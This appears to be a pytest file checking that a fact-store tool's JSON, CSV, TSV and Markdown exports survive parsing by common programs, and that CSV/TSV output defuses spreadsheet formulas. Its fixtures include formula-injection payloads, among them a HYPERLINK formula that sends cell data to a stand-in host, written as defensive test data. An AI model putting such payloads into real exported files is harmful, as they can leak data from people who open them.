"""Each format in the program that people read it with: what went in comes out again."""

import csv
import json
import re
import shutil
import subprocess
from collections.abc import Callable
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path

import pytest
from conftest import SMALL, Ran, WriteStore
from markdown_it import MarkdownIt
from ptys import PROGRAMS

Parkq = Callable[..., Ran]
Rows = list[dict[str, str]]

ODD = """\
schema = 1
[[fact]]
entity = "hostile"
attribute = "leading-industries"
stated = "=1+2、a|b, \\"c\\"; \\\\d"
note = "first line\\nsecond\\tline 一|二"
where = "-3"
"""


@pytest.fixture(autouse=True)
def _odd_store(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The small store, and a fact with all that formats need to take care of."""
    store = shutil.copytree(SMALL, tmp_path / "facts")
    text = ODD.replace("[[fact]]", '[source]\nid = "odd"\ntitle = "odd"\n\n[[fact]]')
    (store / "odd.toml").write_text(text, encoding="utf-8")
    monkeypatch.setenv("PARKQ_STORE", str(store))


@pytest.fixture
def facts(parkq: Parkq) -> Rows:
    """The facts as JSON has them, for columns to be compared to."""
    lines = parkq("list", "facts", "-f", "jsonl").out.splitlines()
    return [
        {
            "id": fact["id"],
            "stated": fact["figure"]["stated"],
            "note": fact["note"],
            "where": fact["where"],
            "low": _plain(fact["figure"].get("low")),
        }
        for fact in map(json.loads, lines)
    ]


def _plain(value: object) -> str:
    return "" if value is None else str(value)


COLUMNS = ("--columns", "id,stated,note,where,low")


def given_to(program: str, *args: str, stdin: str) -> str:
    """What a program makes of what it is given."""
    found = shutil.which(program, path=PROGRAMS)
    if not found:
        pytest.skip(f"no {program}")
    ran = subprocess.run(  # noqa: S603 - what runs is written here
        [found, *args], input=stdin.encode(), capture_output=True, check=True
    )
    return ran.stdout.decode()


def guarded(rows: Rows) -> Rows:
    """What csv and tsv make of text that would be run or hidden: it is led or spelt out."""
    return [
        {key: _seen("'" * value.startswith("=") + value) for key, value in row.items()}
        for row in rows
    ]


def _seen(text: str) -> str:
    return text.replace("\u202e", "\\u202e")


def test_there_is_something_to_take_care_of(facts: Rows) -> None:
    (odd,) = (row for row in facts if row["id"].endswith("/odd"))
    assert odd["stated"] == '=1+2、a|b, "c"; \\d'
    assert odd["note"] == "first line\nsecond\tline 一|二"


def test_jq_reads_json_and_jsonl_alike(parkq: Parkq, facts: Rows) -> None:
    document = parkq("list", "facts", "-f", "json").out
    lines = parkq("list", "facts", "-f", "jsonl").out
    read = given_to("jq", "-cS", ".", stdin=lines)
    assert given_to("jq", "-cS", ".items[]", stdin=document) == read
    stated = given_to("jq", "-j", '.figure.stated + "\\u0000"', stdin=lines)
    assert stated.split("\0")[:-1] == [row["stated"] for row in facts]


def test_miller_reads_csv_and_tsv(parkq: Parkq, facts: Rows) -> None:
    for form in ("csv", "tsv"):
        text = parkq("list", "facts", "-f", form, *COLUMNS).out
        args = (f"--i{form}", "--ojson", "--infer-none", "cat")
        assert json.loads(given_to("mlr", *args, stdin=text)) == guarded(facts)


def test_csvkit_reads_csv(parkq: Parkq, facts: Rows) -> None:
    text = parkq("list", "facts", "-f", "csv", *COLUMNS).out
    read = json.loads(given_to("csvjson", "--no-inference", "--blanks", stdin=text))
    assert read == guarded(facts)


def test_sqlite_imports_csv(parkq: Parkq, facts: Rows, tmp_path: Path) -> None:
    file = tmp_path / "facts.csv"
    file.write_text(parkq("list", "facts", "-f", "csv", *COLUMNS).out, encoding="utf-8")
    script = f'.import --csv "{file}" facts\n.mode json\nselect * from facts;\n'
    assert json.loads(given_to("sqlite3", stdin=script)) == guarded(facts)


class Cells(HTMLParser):
    """The cells of a table of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []

    def handle_starttag(self, tag: str, _: object) -> None:
        if tag == "tr":
            self.rows.append([])
        elif tag in {"td", "th"}:
            self.rows[-1].append("")
        elif tag == "br":
            self.rows[-1][-1] += "\n"

    def handle_data(self, data: str) -> None:
        if self.rows and self.rows[-1]:
            self.rows[-1][-1] += data.strip("\n")


def test_a_renderer_of_markdown_reads_md(parkq: Parkq, facts: Rows) -> None:
    text = parkq("list", "facts", "-f", "md", *COLUMNS).out
    cells = Cells()
    cells.feed(MarkdownIt("commonmark").enable("table").render(text))
    names, *rows = cells.rows
    assert names == list(facts[0])
    shown = [[_seen(value).replace("\t", "\\t") for value in row.values()] for row in facts]
    assert rows == shown


def test_a_program_of_the_standard_library_reads_csv(parkq: Parkq, facts: Rows) -> None:
    text = parkq("list", "facts", "-f", "csv", *COLUMNS).out
    assert list(csv.DictReader(StringIO(text, newline=""))) == guarded(facts)


def test_no_part_of_a_cell_is_a_formula_where_semicolons_part_cells(
    parkq: Parkq, write_store: WriteStore
) -> None:
    facts = "".join(
        f'[[fact]]\nentity = "e"\nattribute = "{attribute}"\nscope = "s{n}"\n'
        f"stated = {json.dumps(stated)}\n"
        for n, (attribute, stated) in enumerate(
            [
                *(("name", 'a;=HYPERLINK("http://x.example/?"&A1;"x")'), ("name", "a; @SUM(1)")),
                *(("name", "a;-5;+1.5%"), ("sectors", "a、=b、c;=d"), ("name", "= 1;=2")),
            ]
        )
    )
    root = write_store(
        {
            "a.toml": "schema = 1\n"
            '[attribute.name]\nlabel = { en = "n", zh = "n" }\nkind = "text"\n'
            '[attribute.sectors]\nlabel = { en = "s", zh = "s" }\nkind = "list"\n'
            f'[[entity]]\nid = "e"\nname = "N"\n[source]\nid = "s"\ntitle = "A"\n{facts}'
        }
    )
    for form, marks in (("csv", ";,\n"), ("tsv", ";\t\n")):
        ran = parkq("show", "e", "--store", str(root), "-f", form)
        parts = re.split(f"[{marks}]", ran.out.replace('"', ""))
        assert [part for part in parts if part.strip()[:1] in set("=+@")] == ["+1.5%"]
